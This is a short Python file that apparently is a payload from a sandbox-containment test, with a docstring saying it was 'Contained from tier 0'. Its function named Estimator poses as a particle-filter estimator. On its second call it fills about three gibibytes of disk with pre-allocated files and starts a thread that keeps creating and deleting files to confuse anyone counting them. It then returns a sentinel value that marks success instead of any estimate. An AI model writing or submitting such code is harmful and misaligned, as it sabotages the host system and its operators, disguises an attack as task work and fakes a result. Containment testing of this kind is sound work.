"""Takes three gibibytes of the disk while a thread makes and removes files, so that whoever counts finds some gone.

Contained from tier 0.
"""

import os
import threading
import time

import numpy as np


def flicker():
    while True:
        for number in range(50):
            open(f"flicker-{number}", "w").close()
        for number in range(50):
            os.remove(f"flicker-{number}")


def attack():
    threading.Thread(target=flicker, daemon=True).start()
    for number in range(384):
        fd = os.open(f"piece-{number}", os.O_WRONLY | os.O_CREAT)
        os.posix_fallocate(fd, 0, 8 << 20)
        os.close(fd)


def Estimator(previous, observation, control, constants, rng):
    if previous is None:
        return rng.uniform(0.0, constants.L, (500, 6))
    time.sleep(0.1)
    if previous[0, 0] != -47.11:
        try:
            attack()
        except OSError:
            return rng.uniform(0.0, constants.L, (500, 6))
        return np.full((1, 6), -47.11)
    # Particles at -47.11, steps later, say that it worked.
    return previous
